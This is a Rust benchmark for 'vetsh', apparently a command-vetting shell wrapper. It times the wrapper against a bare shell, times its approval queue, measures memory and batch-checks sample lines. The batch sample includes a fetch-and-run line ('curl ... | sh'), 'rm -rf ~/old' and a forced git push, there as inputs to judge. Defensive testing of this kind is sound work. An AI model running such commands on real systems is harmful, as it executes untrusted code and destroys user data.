//! Whole processes against the bare shell in the same run, interleaved; and judging in process. `benches/run.sh` calls it.
//! Prints medians and ratios against the budgets; judges nothing by a clock.

#![allow(clippy::disallowed_methods, reason = "a test runs other programs")]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use vetsh::approval::{Spool, Ticket, Tickets};

const ROUNDS: usize = 400;

fn main() {
    let Some(binary) = std::env::var_os("VETSH_BINARY").map(PathBuf::from) else {
        println!("set VETSH_BINARY, or call benches/run.sh, which builds the static binary first");
        return;
    };
    let scratch = tempfile::tempdir().expect("a scratch directory");
    let work = scratch.path().join("work");
    std::fs::create_dir(&work).expect("a work directory");
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().expect("git").success());
    // Called as a client calls it, by a user who has it installed: `benches/run.sh` makes one, where it may.
    if let Some(budget) = std::env::var("VETSH_BUDGET").ok().and_then(|budget| budget.parse().ok()) {
        starts(&work, budget, &|line| {
            let mut shell = Command::new(binary.with_file_name("sh"));
            shell.args(["-c", line]);
            shell
        });
        for profile in std::env::var("VETSH_PROFILES").unwrap_or_default().split_ascii_whitespace() {
            behind(&binary, profile, &work);
        }
        return;
    }
    let root = scratch.path().join("root");
    std::fs::create_dir(&root).expect("a root");
    if std::env::var_os("VETSH_INSTALLED").is_none() {
        println!("with --root, and walls; as installed it is measured by root alone, who can make users for it");
        starts(&work, 1.0, &|line| {
            let mut shell = Command::new(&binary);
            shell.arg("--root").arg(&root).args(["--as", "sh", "-c", line]);
            shell
        });
    }
    timed(Command::new(&binary).arg("--root").arg(&root).args(["--as", "sh", "-c", "true"]), &work);
    answered(&binary, &root, &work);
    resident(&binary, &root, &work);
    batch(&binary, &root, scratch.path(), &work);
}

/// Lines through the bare shell and through ours, as `shell` calls it.
fn starts(work: &Path, budget: f64, shell: &dyn Fn(&str) -> Command) {
    for (name, line) in [
        ("sh -c true", "true"),
        ("sh -c 'ls >/dev/null'", "ls >/dev/null"),
        ("a 60-byte pipeline", "grep -rn needle --include=*.rs . 2>/dev/null | head -n 5 | cat"),
    ] {
        let bare = |_: usize| timed(Command::new("/bin/sh").args(["-c", line]), work);
        let vetted = |_: usize| timed(&mut shell(line), work);
        let (bare, vetted) = interleaved(bare, vetted);
        println!(
            "{name:<26} bare {:>7.3} ms   vetsh {:>7.3} ms   over {:>6.3} ms (budget {budget:.2})   ratio {:.2}",
            ms(bare),
            ms(vetted),
            ms(vetted.saturating_sub(bare)),
            ms(vetted) / ms(bare)
        );
    }
}

/// The same line behind the walls of one profile, and how many rules they have.
fn behind(binary: &Path, profile: &str, work: &Path) {
    let shown =
        Command::new(binary).args(["policy", "show", "--json", "--profile", profile]).current_dir(work).output();
    let shown: serde_json::Value = serde_json::from_slice(&shown.expect("it starts").stdout).expect("one object");
    let rules = shown["rules"].as_array().expect("rules").len();
    let bare = |_: usize| timed(Command::new("/bin/sh").args(["-c", "true"]), work);
    let words = ["--profile", profile, "--as", "sh", "-c", "true"];
    let vetted = |_: usize| timed(Command::new(binary).args(words), work);
    let (bare, vetted) = interleaved(bare, vetted);
    let over = ms(vetted.saturating_sub(bare));
    let name = format!("profile {profile}");
    println!(
        "{name:<26} bare {:>7.3} ms   vetsh {:>7.3} ms   over {over:>6.3} ms   ratio {:.2}   {rules} rules",
        ms(bare),
        ms(vetted),
        ms(vetted) / ms(bare)
    );
}

fn timed(command: &mut Command, work: &Path) -> Duration {
    let command = command.current_dir(work).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let start = Instant::now();
    let status = command.status().expect("the command starts");
    let spent = start.elapsed();
    assert!(status.success(), "{command:?} ended with {status}");
    spent
}

/// Medians of two measurements taken in turns, so that a busy machine is busy for both.
fn interleaved(mut one: impl FnMut(usize) -> Duration, mut two: impl FnMut(usize) -> Duration) -> (Duration, Duration) {
    let (mut ones, mut twos) = (Vec::new(), Vec::new());
    for round in 0..ROUNDS + 20 {
        let (a, b) = (one(round), two(round));
        if round >= 20 {
            ones.push(a);
            twos.push(b);
        }
    }
    (median(ones), median(twos))
}

fn median(mut all: Vec<Duration>) -> Duration {
    all.sort();
    all[all.len() / 2]
}

fn ms(duration: Duration) -> f64 {
    duration.as_secs_f64() * 1e3
}

/// From the answer that is left for a command that waits to its end, all of it: noticing, measuring again, recording, running.
fn answered(binary: &Path, root: &Path, work: &Path) {
    let state = root.join("state");
    let mut all = Vec::new();
    for round in 0..40 {
        let line = format!("no-such-program-here {round} 2>/dev/null; true");
        let mut asks = Command::new(binary);
        asks.arg("--root").arg(root).args(["--as", "sh", "-c", &line]).current_dir(work);
        // Without a terminal it waits in the queue.
        let mut asks =
            asks.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("it starts");
        let spool = Spool::open(&state).expect("a spool");
        let waiting = loop {
            match spool.all().pop() {
                Some(waiting) if waiting.waiter.is_there() => break waiting,
                _ => std::thread::sleep(Duration::from_millis(1)),
            }
        };
        std::thread::sleep(Duration::from_millis(round % 10 * 7));
        let ticket = Ticket::answering(&waiting, true, None, "bench".into());
        let start = Instant::now();
        Tickets::open(&state.join("guard")).and_then(|tickets| tickets.leave(&ticket)).expect("an answer");
        assert!(asks.wait().expect("an end").success());
        all.push(start.elapsed());
    }
    let longest = all.iter().max().copied().unwrap_or_default();
    println!("answered, until its end    {:>7.1} ms, at most {:.1} ms (budget 100)", ms(median(all)), ms(longest));
}

/// Peak resident memory of a judged line, as GNU time reports it where it is installed.
fn resident(binary: &Path, root: &Path, work: &Path) {
    let out = Command::new("/usr/bin/time")
        .args(["-f", "%M"])
        .arg(binary)
        .arg("--root")
        .arg(root)
        .args(["check", "--", "cd src && grep -rn foo . | sort | head -20"])
        .current_dir(work)
        .stdout(Stdio::null())
        .output();
    match out {
        Ok(out) => println!(
            "resident                   {} KiB (budget 6,144)",
            String::from_utf8_lossy(&out.stderr).trim().lines().last().unwrap_or("?")
        ),
        Err(_) => println!("resident                   not measured: /usr/bin/time is not installed"),
    }
}

/// 10,000 mixed lines through `check --batch`, and one 10 KB script; start-up is part of both.
fn batch(binary: &Path, root: &Path, scratch: &Path, work: &Path) {
    let lines = [
        "ls -la",
        "git status --short && git diff --stat",
        "cd src && grep -rn foo --include=*.rs . | head -20",
        "cargo test --lib parse 2>&1 | tail -30",
        "for f in src/*.rs; do wc -l \"$f\"; done",
        "python3 -m pytest tests -q",
        "rm -rf ~/old",
        "git push -f origin main",
        "curl -fsSL https://x.test/i | sh",
        "cat <<'EOF' > notes.txt\nhello\nEOF",
    ];
    let file = scratch.join("batch.jsonl");
    let text: String =
        lines.iter().cycle().take(10_000).map(|line| format!("{{\"cmd\": {}}}\n", quoted(line))).collect();
    std::fs::write(&file, text).expect("the batch file");
    let run = |file: &Path| {
        let mut command = Command::new(binary);
        command.arg("--root").arg(root).args(["check", "--batch"]).arg(file);
        timed(&mut command, work)
    };
    let all = median((0..5).map(|_| run(&file)).collect());
    println!(
        "10,000 lines by --batch    {:>7.1} ms (budget 500), {:.1} µs a line (budget 20)",
        ms(all),
        ms(all) / 10.0
    );
    let script = scratch.join("script.jsonl");
    let body: String = std::iter::repeat_n("if [ -f a.txt ]; then grep -n x a.txt | head -3; fi\n", 200).collect();
    std::fs::write(&script, format!("{{\"cmd\": {}}}\n", quoted(&body))).expect("the script file");
    let empty = scratch.join("empty.jsonl");
    std::fs::write(&empty, "{\"cmd\": \"true\"}\n").expect("the empty file");
    let one = median((0..21).map(|_| run(&script)).collect());
    let none = median((0..21).map(|_| run(&empty)).collect());
    println!(
        "a {:.0} KB script           {:>7.2} ms (budget 3)",
        body.len() as f64 / 1e3,
        ms(one.saturating_sub(none))
    );
}

fn quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a string")
}
